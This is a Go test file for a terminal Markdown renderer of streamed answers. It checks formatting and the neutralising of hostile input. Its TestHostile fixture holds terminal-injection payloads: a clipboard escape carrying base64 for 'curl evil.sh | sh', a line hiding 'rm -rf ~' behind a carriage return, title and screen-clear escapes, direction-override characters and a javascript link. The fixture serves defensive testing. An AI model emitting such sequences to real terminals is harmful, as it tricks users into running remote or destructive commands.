package render

import (
	"errors"
	"strconv"
	"strings"
	"testing"

	"github.com/hookd/hookd/internal/sanitize"
	"github.com/muesli/termenv"
)

// stream writes answer to a Writer in pieces cut at cuts (byte offsets,
// increasing) and returns what it printed.
func stream(t *testing.T, o Options, answer string, cuts ...int) string {
	t.Helper()
	var b strings.Builder
	w := NewWriter(&b, o)
	last := 0
	for _, c := range append(cuts, len(answer)) {
		if err := w.Text(answer[last:c]); err != nil {
			t.Fatalf("Text: %v", err)
		}
		last = c
	}
	if err := w.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	return b.String()
}

// show plays out on a test terminal and returns the screen; it fails the
// test if out holds a sequence the Writer does not make.
func show(t *testing.T, width int, out string) (string, *screen) {
	t.Helper()
	s := newScreen(width)
	if err := s.write(out); err != nil {
		t.Fatalf("output %q: %v", out, err)
	}
	return s.text(), s
}

func TestRender(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string // lines of the screen, in order, trimmed
		not      []string // text that must not show
	}{
		{"heading", "# Install\n", []string{"# Install"}, []string{"##"}},
		{"heading 2", "## Then\n", []string{"## Then"}, nil},
		{"emphasis", "Some *soft* and **hard** words.\n", []string{"Some soft and hard words."}, []string{"*"}},
		{"inline code", "Run `make` now.\n", []string{"Run make now."}, []string{"`"}},
		{"link", "See [the docs](https://ex.com/x).\n", []string{"See the docs (https://ex.com/x)."}, []string{"]("}},
		{"bullets", "- one\n- two\n", []string{"• one", "• two"}, []string{"- "}},
		{"numbers", "1. first\n2. second\n", []string{"1. first", "2. second"}, nil},
		{"nested", "- a\n  - b\n", []string{"• a", "• b"}, nil},
		{"quote", "> careful\n", []string{"│ careful"}, []string{">"}},
		{"code", "```sh\nls -l\n```\n", []string{"ls -l"}, []string{"```"}},
		{"code unclosed", "```go\nfunc f() {}\n", []string{"func f() {}"}, []string{"```"}},
		{"table", "| a | b |\n|---|---|\n| 1 | 2 |\n", []string{"a │ b", "1 │ 2"}, []string{"|---"}},
		{"paragraphs", "one\n\ntwo\n", []string{"one", "", "two"}, nil},
		{"wrap", "word word word word word word word word word word\n", []string{"word word word word word word word", "word word word"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := stream(t, Options{Width: 40, Style: "dark"}, tt.in)
			screen, s := show(t, 40, out)
			got := collapse(screen)
			if !inOrder(got, tt.want) {
				t.Errorf("rendering %q shows\n%s\nwant the lines\n%s", tt.in, got, strings.Join(tt.want, "\n"))
			}
			for _, n := range tt.not {
				if strings.Contains(got, n) {
					t.Errorf("rendering %q shows %q:\n%s", tt.in, n, got)
				}
			}
			if !s.colour {
				t.Errorf("rendering %q in dark has no colour: %q", tt.in, out)
			}
		})
	}
}

// collapse trims the lines of screen and reduces runs of spaces to one, to
// compare lines whatever the alignment.
func collapse(screen string) string {
	var lines []string
	for _, l := range strings.Split(strings.TrimSpace(screen), "\n") {
		lines = append(lines, strings.Join(strings.Fields(l), " "))
	}
	return strings.Join(lines, "\n")
}

// inOrder reports whether the lines of screen hold want, in order.
func inOrder(screen string, want []string) bool {
	lines := strings.Split(screen, "\n")
	for _, w := range want {
		for len(lines) > 0 && lines[0] != w {
			lines = lines[1:]
		}
		if len(lines) == 0 {
			return false
		}
		lines = lines[1:]
	}
	return true
}

func TestPlain(t *testing.T) {
	in := "# Title\r\n\n- a\t*b*\n```sh\nls\n```\nend"
	want := "# Title\n\n- a\t*b*\n```sh\nls\n```\nend\n"
	if got := stream(t, Options{Style: "plain"}, in); got != want {
		t.Errorf("plain %q = %q; want %q", in, got, want)
	}
}

const hostile = "Copy this: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\n" +
	"\x1b]0;pwned\x07Title set\n\n" +
	"\x1b[2J\x1b[1AClear and up\n\n" +
	"safe command\rrm -rf ~\n\n" +
	"- rm -rf /tmp/x\u202e\u2066txt.exe\n- zero\u200bwidth and NUL \x00 and C1 \x9b2J and \xc2\x9b31m\n\n" +
	"Entities: &#x1b;[8mhidden&#27;]0;t&#7; &#x9b;2J &#x202e; &#8203; &zwnj; &#x2014;\n\n" +
	"```sh\necho \x1b[31mred\x1b[0m \u202e\n```\n" +
	"[click](javascript:\x1b]8;;http://evil\x07) `\x1b[8m`\n"

func TestHostile(t *testing.T) {
	bad := []string{"\x1b]", "\x1b[2J", "\x1b[8m", "\x1b[31m", "\x07", "\x00", "\x9b", "\u202e", "\u2066", "\u200b", "\u200c", "\rrm"}
	for _, style := range []string{"plain", "dark", "light"} {
		t.Run(style, func(t *testing.T) {
			out := stream(t, Options{Width: 60, Style: style}, hostile)
			if style == "plain" && strings.Contains(out, "\x1b") {
				t.Errorf("plain output holds an escape sequence: %q", out)
			}
			for _, b := range bad {
				if strings.Contains(out, b) {
					t.Errorf("output holds %q: %q", b, out)
				}
			}
			screen, _ := show(t, 60, out) // fails on a sequence not the writer's
			for _, r := range screen {
				if sanitize.Hidden(r) || r < 0x20 && r != '\n' || r >= 0x7f && r < 0xa0 {
					t.Errorf("screen shows %U:\n%s", r, screen)
				}
			}
			shown := []string{`\e]52;c;`, `\e]0;pwned\x07`, `\e[2J\e[1A`, `\x0drm -rf`, `\u202e`, `\u200b`, `\x00`, `\x9b`}
			if style != "plain" {
				// Markdown's references: those that would be unsafe show as
				// written, the others as what they stand for.
				shown = append(shown, "&#x1b;[8m", "&#x9b;2J", "&#x202e;", `\u200c`, "—")
			}
			for _, want := range shown {
				if !strings.Contains(screen, want) {
					t.Errorf("screen does not show %q:\n%s", want, screen)
				}
			}
		})
	}
}

// splitAnswer has a bit of everything, CR LF, UTF-8 of every length and
// control sequences, to cut anywhere.
const splitAnswer = "Bonjour — café ☕ 𝄞 日本\r\n\n# Tête\n\n- \x1b]52;c;eA==\x07 un\n- deux\u202e\n\n```bash\nls \x1b[2J\n\techo é\n```\n| a | b |\n|---|---|\n| ü | \x9b |\n\nfin sans retour"

func TestSplit(t *testing.T) {
	for _, style := range []string{"plain", "dark"} {
		t.Run(style, func(t *testing.T) {
			o := Options{Width: 30, Style: style}
			whole := stream(t, o, splitAnswer)
			want, _ := show(t, 30, whole)
			check := func(name string, cuts ...int) {
				out := stream(t, o, splitAnswer, cuts...)
				if style == "plain" && out != whole {
					t.Fatalf("%s: output %q; want %q", name, out, whole)
				}
				if got, _ := show(t, 30, out); got != want {
					t.Fatalf("%s: screen\n%s\nwant\n%s", name, got, want)
				}
			}
			for i := 1; i < len(splitAnswer); i++ {
				check("cut at "+strconv.Itoa(i), i)
			}
			var every []int
			for i := 1; i < len(splitAnswer); i++ {
				every = append(every, i)
			}
			check("byte by byte", every...)
		})
	}
}

func TestReasoning(t *testing.T) {
	tests := []struct {
		style, reasoning string
		want             string // screen
	}{
		{"dark", "", "Let me think\\e]0\n\n  Answer."},
		{"dark", "hide", "  Answer."},
		{"plain", "dim", "Let me think\\e]0\n\nAnswer."},
		{"plain", "hide", "Answer."},
	}
	for _, tt := range tests {
		var b strings.Builder
		w := NewWriter(&b, Options{Style: tt.style, Reasoning: tt.reasoning})
		for _, err := range []error{
			w.Reasoning("Let me "), w.Reasoning("think\x1b]0;x\x07"[:8]), w.Text("Answer."),
			w.Reasoning("late thought"), w.Close(),
		} {
			if err != nil {
				t.Fatal(err)
			}
		}
		got, _ := show(t, 80, b.String())
		if strings.TrimRight(got, "\n") != tt.want {
			t.Errorf("%s/%s: screen %q; want %q (output %q)", tt.style, tt.reasoning, got, tt.want, b.String())
		}
		if tt.style == "dark" && tt.reasoning == "" && !strings.Contains(b.String(), sgrDim+"Let me ") {
			t.Errorf("reasoning not dimmed: %q", b.String())
		}
	}
}

// TestTall streams blocks taller than the screen: they are drawn in parts,
// and each line shows once.
func TestTall(t *testing.T) {
	var in strings.Builder
	for i := range 30 {
		in.WriteString("- item " + strconv.Itoa(i) + "\n")
	}
	in.WriteString("\n```sh\n")
	for i := range 30 {
		in.WriteString("echo " + strconv.Itoa(i) + "\n")
	}
	in.WriteString("```\n\n" + strings.Repeat("long ", 200) + "\n")
	out := stream(t, Options{Width: 40, Height: 10, Style: "dark"}, in.String())
	screen, _ := show(t, 40, out)
	for i := range 30 {
		for _, s := range []string{"• item " + strconv.Itoa(i), "echo " + strconv.Itoa(i)} {
			if n := strings.Count(screen, s+"\n"); n != 1 {
				t.Errorf("%q shows %d times:\n%s", s, n, screen)
			}
		}
	}
	if strings.Contains(screen, "```") || strings.Contains(screen, "- item") {
		t.Errorf("Markdown left unrendered:\n%s", screen)
	}
	if n := strings.Count(screen, "long"); n != 200 {
		t.Errorf("the long line shows %d words; want 200", n)
	}
}

func TestProfiles(t *testing.T) {
	for _, p := range []termenv.Profile{termenv.TrueColor, termenv.ANSI256, termenv.ANSI, termenv.Ascii} {
		out := stream(t, Options{Style: "light", Profile: p}, "# Hi\n\n**bold** `code`\n")
		screen, _ := show(t, 80, out)
		if !strings.Contains(screen, "Hi") || !strings.Contains(screen, "bold") {
			t.Errorf("profile %v: screen %q", p, screen)
		}
	}
}

func TestErrors(t *testing.T) {
	for _, o := range []Options{{Style: "neon"}, {Reasoning: "loud"}} {
		w := NewWriter(new(strings.Builder), o)
		if err := w.Text("x"); err == nil {
			t.Errorf("NewWriter(%+v).Text: no error", o)
		}
		if err := w.Close(); err == nil {
			t.Errorf("NewWriter(%+v).Close: no error", o)
		}
	}
	boom := errors.New("boom")
	w := NewWriter(failWriter{boom}, Options{Style: "plain"})
	if err := w.Text("x"); !errors.Is(err, boom) {
		t.Errorf("Text to a failing writer = %v; want %v", err, boom)
	}
}

type failWriter struct{ err error }

func (f failWriter) Write([]byte) (int, error) { return 0, f.err }
